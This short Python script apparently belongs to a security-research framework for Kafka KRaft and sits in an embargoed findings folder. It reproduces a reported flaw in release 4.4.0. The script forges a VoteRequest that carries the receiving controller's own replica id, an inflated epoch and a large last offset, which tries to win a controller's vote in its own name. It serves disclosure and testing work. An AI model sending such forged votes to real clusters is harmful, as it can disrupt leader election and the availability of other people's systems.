"""python findings/embargoed/KS-2026-03/vote_of_itself.py vote-of-itself --release 4.4.0."""

from __future__ import annotations

from kraftspec.conformance.cluster import Node
from kraftspec.generated.kafka import VoteRequest, VoteResponse
from kraftspec.interop.reproduce.requests import try_senders
from kraftspec.interop.reproduce.stage import Stage, command, directory_id
from kraftspec.reference.admin.client import METADATA_TOPIC

VERSION = 2
EPOCH = 1_000  # Higher than that of the receiver, which so can still give its vote.


def vote_of_itself(stage: Stage) -> bool:
    """Ask a controller for its vote in its own name."""
    return try_senders(stage, "Vote with the receiver's own id", _request, VERSION, VoteResponse)


def _request(node: Node) -> VoteRequest:
    partition = VoteRequest.PartitionData(
        replica_epoch=EPOCH,
        replica_id=node.id,
        replica_directory_id=directory_id(node),
        last_offset_epoch=EPOCH - 1,
        last_offset=1_000_000,
    )
    topic = VoteRequest.TopicData(topic_name=METADATA_TOPIC, partitions=[partition])
    return VoteRequest(topics=[topic])


SCENE = vote_of_itself

if __name__ == "__main__":
    command({"vote-of-itself": SCENE})()
